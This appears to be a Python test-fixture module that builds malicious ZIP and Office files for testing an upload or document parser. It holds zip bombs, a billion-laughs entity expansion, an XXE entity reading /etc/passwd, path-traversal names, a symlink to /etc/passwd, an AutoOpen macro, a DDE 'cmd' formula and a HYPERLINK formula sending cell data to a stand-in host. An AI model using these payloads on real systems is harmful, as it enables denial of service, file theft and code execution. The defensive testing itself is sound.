"""ZIP archives, and the Office formats that are such, made to do harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import openpyxl

from tests.small_files import word, zipped

_BOMB = 300_000_000
_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY l0 "ha ha ha ha ">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
_STRANGER = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def changed(data: bytes, changes: Mapping[str, Callable[[bytes], bytes]]) -> bytes:
    """An archive with some of its members changed, or added where they are not there."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for name, change in changes.items():
        members[name] = change(members.get(name, b""))
    return zipped(members)


def with_entities(data: bytes, part: str, declaration: str, used: str, before: str) -> bytes:
    """A document whose part declares entities and uses one, put before the first ``before``."""

    def declared(xml: bytes) -> bytes:
        text = xml.decode()
        start = text.index("?>") + 2 if text.startswith("<?xml") else 0
        text = text[:start] + declaration + text[start:]
        return text.replace(before, f"{used}{before}", 1).encode()

    return changed(data, {part: declared})


def laughing(data: bytes, part: str, before: str) -> bytes:
    """A part of XML in which ten thousand million words are written with a few entities."""
    return with_entities(data, part, _LAUGHS, "&l9;", before)


def prying(data: bytes, part: str, before: str) -> bytes:
    """A part of XML that asks for a file of the machine that reads it."""
    return with_entities(data, part, _STRANGER, "&xxe;", before)


def locked(data: bytes) -> bytes:
    """An archive whose members say that they are encrypted."""
    marked = bytearray(data)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(signature)
        while at >= 0:
            marked[at + place] |= 1
            at = marked.find(signature, at + 4)
    return bytes(marked)


def locked_office() -> bytes:
    """What Office makes of a document that it encrypts: an OLE file with the ZIP inside."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHH", 62, 3, 0xFFFE, 9)
    entries = (
        name.encode("utf-16-le").ljust(128, b"\0")
        for name in ("Root Entry", "EncryptionInfo", "EncryptedPackage")
    )
    return head.ljust(512, b"\0") + b"".join(entries) + zlib.compress(bytes(9000), 0)


def bomb(name: str = "stor.txt") -> bytes:
    """A file of 300 MB in an archive of 300 KB."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(name, "w") as member,
    ):
        for _ in range(_BOMB // 1_000_000):
            member.write(b"a " * 500_000)
    return written.getvalue()


def bomb_of_many(text: str) -> bytes:
    """Forty files of 8 MB, each of which is let in by itself."""
    large = (text * (8_000_000 // len(text))).encode()
    return zipped({f"referat {n}.txt": large for n in range(40)})


def bomb_in(data: bytes, part: str, before: bytes) -> bytes:
    """A document with 200 MB of blanks in one of its parts."""
    return changed(data, {part: lambda xml: xml.replace(before, b" " * 200_000_000 + before, 1)})


def nested(text: str, depth: int) -> bytes:
    """Minutes in an archive in an archive …"""
    data = zipped({"referat.txt": text.encode()})
    for level in range(depth - 1):
        data = zipped({f"arkiv {level}.zip": data})
    return data


def multiplying(depth: int) -> bytes:
    """Ten archives in each of ten archives …: 10^depth files."""
    data = zipped({"a.txt": b"abc " * 100_000})
    for _ in range(depth):
        data = zipped({f"{n}.zip": data for n in range(10)})
    return data


def overlapping(text: str, copies: int) -> bytes:
    """Many entries in the list of members that all name the same bytes."""
    data = zipped({"a.txt": (text * 4000).encode()})
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[start:end]
    entries = b"".join(
        entry.replace(b"a.txt", b"%05d" % n) for n in range(copies)
    )  # As long a name, so that nothing else moves.
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(entries), start, 0)
    return data[:start] + entries + tail


def many_members(members: int) -> bytes:
    return zipped({f"{n}.txt": b"x" for n in range(members)})


def escaping(text: str) -> bytes:
    """Minutes under names that lead out of the folder they are unpacked to."""
    names = (
        "../../../../tmp/ude.txt",
        "/tmp/ude.txt",
        "C:\\ude.txt",
        "..\\..\\ude.txt",
        "mappe/../../ude.txt",
        "con.txt",
        "a\x00b.txt",
    )
    return zipped({name: text.replace("1. ", f"{n}. ").encode() for n, name in enumerate(names)})


def linking() -> bytes:
    """A member that is a symbolic link to a file of the machine."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        link = zipfile.ZipInfo("referat.txt")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


def with_macros(text: str) -> bytes:
    """A Word document with macros (.docm)."""
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macros = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    kind = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return changed(
        word(text),
        {
            "[Content_Types].xml": lambda xml: xml.replace(plain, macros).replace(
                b"</Types>", kind
            ),
            "word/vbaProject.bin": lambda _: b'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n',
        },
    )


def with_formulas(text: str) -> bytes:
    """A workbook with formulas that fetch and run what they should not."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for line in text.splitlines():
        if line:
            sheet.append([line])
    for formula in ("=cmd|' /C calc'!A0", '=HYPERLINK("http://ond.example/"&A1)', "=1+1"):
        sheet.append([formula])
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()
